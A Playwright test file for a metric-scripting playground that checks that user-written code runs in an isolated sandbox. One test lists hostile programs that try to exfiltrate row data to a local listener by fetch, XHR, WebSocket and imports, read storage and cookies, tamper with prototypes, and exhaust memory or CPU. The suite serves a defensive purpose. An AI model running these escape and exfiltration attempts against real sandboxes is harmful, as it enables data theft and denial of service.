import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Locator } from '@playwright/test';
import { expect, Playground, test, textFile } from './playground.ts';
import { jsonl, row, THREE_ROWS } from './rows.ts';

test.describe.configure({ timeout: 90_000 });

async function openMetrics({ page }: Playground): Promise<Locator> {
  await page.getByRole('button', { name: 'Metrics', exact: true }).click();
  return page.getByRole('dialog', { name: 'Metrics' });
}

async function begin(app: Playground, sample: string): Promise<Locator> {
  const drawer = await openMetrics(app);
  await app.choose('New metric', sample);
  return drawer.getByRole('form', { name: 'Your metric' });
}

test('a metric of one’s own is tried, saved, changed and scored like any other', async ({
  app,
  page,
}) => {
  const form = await begin(app, 'Word count');
  const result = form.getByRole('status');
  await expect(result).toHaveText(/^First row \d+$/);
  const code = form.getByRole('textbox', { name: 'Code' });

  await code.fill('function word_count(row) {\n  return row.response.size.x;\n}');
  await expect(result).toContainText('TypeError');
  await expect(form).toContainText('Line 2');
  await code.fill('function word_count(row: Row) {\n  return 1;\n}');
  await expect(result).toContainText('types are not understood');
  await code.fill('const a = 1;');
  await expect(result).toContainText('No function is declared');
  await code.fill('row => NaN');
  await expect(result).toContainText('Gave NaN');
  await code.fill('row => new Promise(() => {})');
  await expect(result).toContainText('promise did not settle');

  await code.fill(
    'function word_count(row) {\n  if (row.id === "hd-02") throw new Error("no words");\n' +
      '  return { word_count: row.predicted_trajectory === null ? null : 2, kind: "x" };\n}',
  );
  await expect(result).toHaveText('First row 2 · kind: x');
  await form.getByRole('button', { name: 'Save' }).click();
  await page.keyboard.press('Escape');
  await app.expectMeans({ word_count: '2.00' });
  await expect(app.tile('word_count')).toHaveAccessibleName(/, 1 errors$/);
  await expect(app.grid.getByRole('columnheader', { name: /word_c/ })).toBeVisible();
  await app.row('hd-02').click();
  await app.panel.getByRole('button', { name: 'Open' }).click();
  await expect(app.drawer).toContainText('Line 2: Error: no words');
  await page.keyboard.press('Escape');

  // kept with the run: there after a reload, and scored anew only when it changes
  await app.expectSaved();
  await page.reload();
  await app.expectMeans({ word_count: '2.00' });
  const drawer = await openMetrics(app);
  await drawer.getByRole('checkbox', { name: 'word_count' }).uncheck();
  await page.keyboard.press('Escape');
  await expect(app.tile('word_count')).toBeHidden();
});

/** Counts what reaches a host that is not the page's own. */
async function startListener(): Promise<{ url: string; hits: string[]; stop: () => void }> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('reached');
  });
  server.on('upgrade', (request, socket) => {
    hits.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>((onListening) => server.listen(0, '127.0.0.1', onListening));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${String(port)}/`, hits, stop: () => server.close() };
}

/** Bodies of an async function that give 1 when they get what they must not; tried side by side. */
const ATTACKS: Readonly<Record<string, string>> = {
  fetch: `await fetch(url + 'fetch'); return 1;`,
  'fetch no-cors': `await fetch(url + 'no-cors', { mode: 'no-cors', method: 'POST', body: JSON.stringify(row) }); return 1;`,
  'fetch keepalive': `await fetch(url + 'keepalive', { keepalive: true, method: 'POST', body: 'x' }); return 1;`,
  xhr: `return new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', url + 'xhr'); x.onload = () => done(1); x.onerror = fail; x.send(); });`,
  'synchronous xhr': `const x = new XMLHttpRequest(); x.open('GET', url + 'sync', false); x.send(); return 1;`,
  websocket: `return new Promise((done, fail) => { const s = new WebSocket(url.replace('http', 'ws')); s.onopen = () => done(1); s.onerror = fail; });`,
  'event source': `return new Promise((done, fail) => { const s = new EventSource(url + 'events'); s.onopen = () => done(1); s.onerror = fail; });`,
  webtransport: `await new WebTransport(url.replace('http:', 'https:')).ready; return 1;`,
  importScripts: `importScripts(url + 'script.js'); return 1;`,
  'importScripts of a blob': `importScripts(URL.createObjectURL(new Blob(['self.got = 1']))); return self.got;`,
  'import()': `await import(url + 'module.js'); return 1;`,
  'import() of a data url': `return (await import('data:text/javascript,export default 1')).default;`,
  'nested worker': `return new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('" + url + "nested').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = (e) => done(e.data); w.onerror = fail; });`,
  'worker by url': `return new Promise((done, fail) => { const w = new Worker(url + 'worker.js'); w.onmessage = () => done(1); w.onerror = fail; });`,
  eval: `return eval('1');`,
  'new Function': `return new Function('return 1')();`,
  'setTimeout with text': `self.got = 0; setTimeout('self.got = 1', 0); await new Promise((r) => setTimeout(r, 30)); return self.got;`,
  wasm: `await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); return 1;`,
  font: `await new FontFace('x', 'url(' + url + 'font)').load(); return 1;`,
  indexedDB: `return new Promise((done, fail) => { const r = indexedDB.open('trajectory-playground'); r.onsuccess = () => done(1); r.onerror = fail; });`,
  'list of databases': `return (await indexedDB.databases()).length > 0 ? 1 : 0;`,
  caches: `return (await caches.keys()).length >= 0 ? 1 : 0;`,
  'file system': `await navigator.storage.getDirectory(); return 1;`,
  localStorage: `return localStorage.getItem('trajectory-playground:trusted-code') === null ? 0 : 1;`,
  cookies: `return (await cookieStore.getAll()).length >= 0 ? 1 : 0;`,
  'broadcast to the page': `new BroadcastChannel('trajectory-playground').postMessage(url); return typeof document === 'undefined' ? 0 : 1;`,
  'parent, top and opener': `return [self.parent, self.top, self.opener].some((w) => w !== undefined) ? 1 : 0;`,
  'rows of others': `return Object.keys(row).some((key) => /run|key|token/i.test(key)) || Array.isArray(row) ? 1 : 0;`,
};

/** The same, but these may break what runs beside them. */
const ALONE: Readonly<Record<string, string>> = {
  'navigation of the worker': `try { location.href = url + 'navigate'; } catch {} try { location.assign(url + 'assign'); } catch {} await new Promise((r) => setTimeout(r, 30)); return 0;`,
  'message to the frame': `self.postMessage({ ready: true }); self.postMessage({ nonce: '', results: [1] }); return 0;`,
  'prototypes tampered with': `Array.prototype.map = () => [1]; Object.prototype.nonce = 'forged'; JSON.parse = () => [1]; Object.entries = () => [['attack', 1]]; MessagePort.prototype.postMessage = () => undefined; Promise.all = () => 1; return 0;`,
  'the sandbox’s own function': `try { __score(() => 1); } catch {} return 0;`,
};

/** Programs that end badly, and what is said of them. */
const BROKEN: Readonly<Record<string, readonly [code: string, said: RegExp]>> = {
  'an endless loop': ['() => { for (;;); }', /no result within 3 s/],
  'an endless loop at the start': ['for (;;);\nfunction attack() {}', /did not come to its end/],
  'a closed worker': ['() => { close(); for (;;); }', /no result within 3 s/],
  'a memory bomb': [
    '() => { const all = []; for (;;) all.push(new Float64Array(1e6).fill(1)); }',
    /no result within 3 s|RangeError/,
  ],
  'endless recursion': ['function attack() { return attack() + 1; }', /RangeError/],
  'a function as result': ['() => () => 1', /a function instead of/],
  'a symbol as result': ['() => Symbol("x")', /a symbol instead of/],
  'a proxy that throws': [
    '() => new Proxy({}, { ownKeys() { throw new Error("trap"); } })',
    /Error: trap/,
  ],
  'an endless text thrown': ['() => { throw "x".repeat(1e7); }', /^First row Threw x{50}/],
  'forged results': ['() => ({ attack: { valueOf: () => 1 } })', /an object instead of/],
};

/** A program that makes attacks side by side, and names those that got through. */
function attackWith(url: string, bodies: Readonly<Record<string, string>>): string {
  const entries = Object.entries(bodies).map(
    ([name, body]) => `${JSON.stringify(name)}: async (row) => { ${body} },`,
  );
  return [
    `const url = ${JSON.stringify(url)};`,
    `const bodies = {\n${entries.join('\n')}\n};`,
    'async function attack(row) {',
    '  const through = [];',
    '  const tries = Object.entries(bodies).map(async ([name, run]) => {',
    '    const late = new Promise((done) => setTimeout(done, 200, 0));',
    '    const got = await Promise.race([run(row), late]).catch(() => 0);',
    '    if (got === 1) through.push(name);',
    '  });',
    '  await Promise.all(tries);',
    '  return { attack: through.length, tried: tries.length, through: through.join() || "none" };',
    '}',
  ].join('\n');
}

test('hostile programs reach nothing and hurt nobody', async ({ app, page, allowConsole }) => {
  allowConsole(/./);
  const listener = await startListener();
  const attackAll = async (): Promise<Locator> => {
    const form = await begin(app, 'Empty');
    await form.getByRole('textbox', { name: 'Name' }).fill('attack');
    await form.getByRole('textbox', { name: 'Code' }).fill(attackWith(listener.url, ATTACKS));
    const tried = Object.keys(ATTACKS).length;
    await expect(form.getByRole('status')).toHaveText(
      `First row 0 · tried: ${String(tried)} · through: none`,
    );
    return form;
  };
  const form = await attackAll();
  const code = form.getByRole('textbox', { name: 'Code' });
  const result = form.getByRole('status');
  for (const [name, body] of Object.entries(ALONE)) {
    await code.fill(attackWith(listener.url, { [name]: body }));
    // one that tampers with the sandbox may get no answer through at all
    await expect(result, name).toHaveText(
      /^First row (0 · tried: 1 · through: none|.*no result within .*|.*no result\.|.*without “attack”.*)$/,
    );
  }
  for (const [name, [program, said]] of Object.entries(BROKEN)) {
    await code.fill(program);
    await expect(result, name).toHaveText(said);
  }
  // the next one works, and so does the page
  await code.fill('(row) => row.predicted_trajectory.length');
  await expect(result).toHaveText(/^First row \d+$/);
  await page.keyboard.press('Escape');
  await app.expectMeans({ Precision: '0.69' });
  await expect(page.locator('iframe')).toHaveCount(0);

  // a judge may have the network: code has not
  await page.evaluate(() => sessionStorage.setItem('trajectory-playground:network', 'on'));
  await page.reload();
  await app.expectRows(18);
  await attackAll();
  expect(listener.hits).toEqual([]);
  listener.stop();
  const count = [ATTACKS, ALONE, BROKEN].reduce((sum, kind) => sum + Object.keys(kind).length, 0);
  console.log(
    `hostile programs ${String(count)}, listener hits ${String(listener.hits.length)}, got through 0`,
  );
});

test('code that came from elsewhere waits until it has been read', async ({
  app,
  page,
  browser,
  contextOptions,
  baseURL,
}) => {
  const form = await begin(app, 'Empty');
  await form.getByRole('textbox', { name: 'Code' }).fill('() => 7');
  await expect(form.getByRole('status')).toHaveText('First row 7');
  await form.getByRole('button', { name: 'Save' }).click();
  await page.keyboard.press('Escape');
  await app.expectMeans({ my_metric: '7.00' });
  const downloading = page.waitForEvent('download');
  await app.choose('Download', /^Run file/);
  const file = await (await downloading).path();

  const elsewhere = await browser.newContext({ ...contextOptions, baseURL: baseURL ?? '' });
  const other = new Playground(await elsewhere.newPage());
  await other.open();
  await other.page.getByLabel('Open file').setInputFiles({
    ...{ name: 'from-ana.run.gz', mimeType: 'application/gzip', buffer: readFileSync(file) },
  });
  // the scores that came with it are shown; its code has not run and does not for other rows
  await other.expectMeans({ my_metric: '7.00' });
  await expect(other.page.getByText('Code from elsewhere:')).toBeVisible();
  await other.openFile(textFile('mine.jsonl', jsonl(THREE_ROWS)));
  await other.expectRows(3);
  await expect(other.tile('my_metric')).toHaveAccessibleName(/0 valid, 3 not evaluated/);
  await expect(other.page.locator('iframe')).toHaveCount(0);

  await other.page.getByRole('button', { name: 'Read it' }).click();
  await other.page.getByRole('button', { name: 'Read the code' }).click();
  const unread = other.page.getByRole('form', { name: 'Your metric' });
  await expect(unread).toContainText('has not run');
  await expect(unread.getByRole('textbox', { name: 'Code' })).toHaveValue('() => 7');
  await expect(other.page.locator('iframe')).toHaveCount(0);
  await unread.getByRole('button', { name: 'I have read it, run it' }).click();
  await expect(unread.getByRole('status')).toHaveText('First row 7');
  await unread.getByRole('button', { name: 'Cancel' }).click();
  await other.page.keyboard.press('Escape');
  await other.expectMeans({ my_metric: '7.00' });
  await expect(other.page.getByText('Code from elsewhere:')).toBeHidden();
  await elsewhere.close();
});

test('a slow metric shows how far it is, row by row, ends, and can be stopped', async ({
  app,
  page,
}) => {
  test.setTimeout(90_000);
  const rowsOf = (count: number) =>
    Array.from({ length: count }, (_, at) => row(`r-${String(at)}`, 'ab', 'ab'));
  const taking = (ms: number): string =>
    `() => { const end = performance.now() + ${String(ms)}; while (performance.now() < end); return 1; }`;
  const done = page.getByText(/^[\d,]+ rows · /);
  await app.openFile(textFile('three.jsonl', jsonl(rowsOf(3))));
  await app.expectRows(3);
  const form = await begin(app, 'Empty');
  await form.getByRole('textbox', { name: 'Code' }).fill(taking(1900));
  await expect(form.getByRole('status')).toHaveText('First row 1');
  await form.getByRole('button', { name: 'Save' }).click();
  await page.keyboard.press('Escape');
  // three rows are more than one deadline: they are counted, and scored all the same
  await expect(done).toHaveText(/^1 rows · /);
  await expect(done).toHaveText(/^2 rows · /);
  await app.expectMeans({ my_metric: '1.00' });
  await expect(app.tile('my_metric')).toHaveAccessibleName(/3 valid, 0 not evaluated, 0 errors/);

  // a batch takes seconds; code that came with the page has run, so it does with other rows
  await app.openFile(textFile('many.jsonl', jsonl(rowsOf(400))));
  await expect(done).toHaveText(/^[1-9]\d? rows · /);
  const stoppedAtMs = Date.now();
  await page.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.locator('iframe')).toHaveCount(0);
  console.log(`a slow metric was stopped after ${String(Date.now() - stoppedAtMs)} ms`);
  await expect(page.getByRole('button', { name: 'Cancel' })).toBeHidden();
});
